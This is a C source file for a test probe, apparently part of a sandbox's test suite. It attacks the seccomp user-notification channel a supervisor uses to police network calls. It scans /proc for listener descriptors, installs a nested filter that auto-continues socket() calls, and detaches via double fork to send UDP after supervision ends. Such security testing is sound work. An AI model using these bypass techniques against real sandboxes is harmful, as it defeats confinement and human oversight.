/* notifyprobe: attacks on the seccomp user notification through which the
 * supervisor hears of refused network calls.
 *
 *   notifyprobe fds
 *       Print "listener: /proc/PID/fd/N" for every seccomp listener this
 *       process can see in /proc/[0-9]*\/fd, then "fds: checked".
 *   notifyprobe fds-self
 *       The scanner's own check: make a listener first, then scan (it must
 *       be found).
 *   notifyprobe nested HOST PORT MSG
 *       Install a filter of our own that sends socket() to user space,
 *       with a listener (SECCOMP_FILTER_FLAG_NEW_LISTENER); a child then
 *       makes a UDP socket and sends MSG to HOST:PORT while the parent
 *       answers every notification with SECCOMP_USER_NOTIF_FLAG_CONTINUE.
 *       Without a listener, the same filter is installed without one and
 *       the socket tried directly. Prints "listener: OK|ERR",
 *       "socket: OK|ERR", "sendto: OK|ERR" (and "continued: N").
 *   notifyprobe orphan DIR HOST PORT MSG
 *       Leave the session (double fork, setsid, stdio on /dev/null),
 *       write DIR/pid, wait up to 20 s for DIR/go, then try the datagram
 *       as it is ("before: socket: ..."), then run "nested", with the
 *       output in DIR/out, then DIR/done: the attack after the supervisor
 *       is gone.
 *
 * Exit status: 0 on success of the last step, 1 otherwise, 2 on usage.
 * The tests judge by the UDP listener on the host, not by this output. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e)
{
	const char *n = strerrorname_np(e);
	return n ? n : "E?";
}

static void say(const char *op, long r, int e)
{
	if (r >= 0)
		printf("%s: OK\n", op);
	else
		printf("%s: %s\n", op, ename(e));
	fflush(stdout);
}

/* socket() -> USER_NOTIF, everything else allowed. */
static long own_filter(unsigned flags)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_socket, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {.len = sizeof f / sizeof f[0], .filter = f};
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
}

/* The effect: a UDP datagram to the host's listener. */
static int try_send(const char *host, int port, const char *msg)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	say("socket", s, errno);
	fflush(stdout);
	if (s < 0)
		return 1;
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
	inet_pton(AF_INET, host, &a.sin_addr);
	ssize_t r = sendto(s, msg, strlen(msg), 0, (struct sockaddr *)&a, sizeof a);
	say("sendto", r, errno);
	close(s);
	return r < 0;
}

static int nested(const char *host, int port, const char *msg)
{
	long lfd = own_filter(SECCOMP_FILTER_FLAG_NEW_LISTENER);
	int e = errno;
	say("listener", lfd, e);
	if (lfd < 0) {
		/* No listener of our own: a USER_NOTIF nobody hears. */
		long r = own_filter(0);
		say("filter", r, errno);
		return try_send(host, port, msg);
	}
	pid_t c = fork();
	if (c == 0) {
		close((int)lfd);
		_exit(try_send(host, port, msg));
	}
	int continued = 0;
	struct timespec end;
	clock_gettime(CLOCK_MONOTONIC, &end);
	end.tv_sec += 5;
	for (;;) {
		int st;
		if (waitpid(c, &st, WNOHANG) == c) {
			printf("continued: %d\n", continued);
			return WIFEXITED(st) ? WEXITSTATUS(st) : 1;
		}
		struct timespec now;
		clock_gettime(CLOCK_MONOTONIC, &now);
		if (now.tv_sec > end.tv_sec) {
			kill(c, SIGKILL);
			waitpid(c, NULL, 0);
			printf("continued: %d (timed out)\n", continued);
			return 1;
		}
		struct pollfd p = {.fd = (int)lfd, .events = POLLIN};
		if (poll(&p, 1, 100) <= 0 || !(p.revents & POLLIN))
			continue;
		struct seccomp_notif req;
		memset(&req, 0, sizeof req);
		if (ioctl((int)lfd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			continue;
		struct seccomp_notif_resp resp = {.id = req.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
		if (ioctl((int)lfd, SECCOMP_IOCTL_NOTIF_SEND, &resp) == 0)
			continued++;
	}
}

static int scan_fds(void)
{
	DIR *proc = opendir("/proc");
	if (!proc) {
		perror("/proc");
		return 2;
	}
	int found = 0;
	struct dirent *p;
	while ((p = readdir(proc))) {
		if (p->d_name[0] < '0' || p->d_name[0] > '9')
			continue;
		char dir[300];
		snprintf(dir, sizeof dir, "/proc/%s/fd", p->d_name);
		DIR *fds = opendir(dir);
		if (!fds)
			continue;
		struct dirent *f;
		while ((f = readdir(fds))) {
			char path[600], target[256];
			snprintf(path, sizeof path, "%s/%s", dir, f->d_name);
			ssize_t n = readlink(path, target, sizeof target - 1);
			if (n <= 0)
				continue;
			target[n] = '\0';
			if (strstr(target, "seccomp notify")) {
				printf("listener: %s\n", path);
				found++;
			}
		}
		closedir(fds);
	}
	closedir(proc);
	printf("fds: checked\n");
	return found ? 1 : 0;
}

static int orphan(const char *dir, const char *host, int port, const char *msg)
{
	pid_t p = fork();
	if (p < 0)
		return 1;
	if (p > 0) {
		waitpid(p, NULL, 0);
		return 0;
	}
	setsid();
	if (fork() != 0)
		_exit(0);
	int null = open("/dev/null", O_RDWR);
	for (int fd = 0; fd < 3; fd++)
		dup2(null, fd);
	char path[4096];
	snprintf(path, sizeof path, "%s/pid", dir);
	FILE *f = fopen(path, "w");
	if (f) {
		fprintf(f, "%d\n", (int)getpid());
		fclose(f);
	}
	snprintf(path, sizeof path, "%s/go", dir);
	struct stat st;
	for (int i = 0; i < 200 && stat(path, &st) < 0; i++)
		usleep(100000);
	char done[4096], out[4096];
	snprintf(done, sizeof done, "%s/done", dir);
	snprintf(out, sizeof out, "%s/out", dir);
	int o = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (o >= 0) {
		dup2(o, 1);
		close(o);
	}
	printf("before: ");
	try_send(host, port, msg);
	int r = nested(host, port, msg);
	fflush(stdout);
	/* Not a rename: with the listener gone, the calls that make names
	 * fail too (ENOSYS, see notify_create in seccomp-rules.c). */
	o = open(done, O_WRONLY | O_CREAT, 0644);
	if (o >= 0)
		close(o);
	_exit(r);
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "fds") == 0)
		return scan_fds();
	if (argc == 2 && strcmp(argv[1], "fds-self") == 0) {
		long lfd = own_filter(SECCOMP_FILTER_FLAG_NEW_LISTENER);
		say("listener", lfd, errno);
		return scan_fds() == 1 ? 0 : 1;
	}
	if (argc == 5 && strcmp(argv[1], "nested") == 0)
		return nested(argv[2], atoi(argv[3]), argv[4]);
	if (argc == 6 && strcmp(argv[1], "orphan") == 0)
		return orphan(argv[2], argv[3], atoi(argv[4]), argv[5]);
	fprintf(stderr, "usage: notifyprobe fds | fds-self | nested HOST PORT MSG | "
			"orphan DIR HOST PORT MSG\n");
	return 2;
}
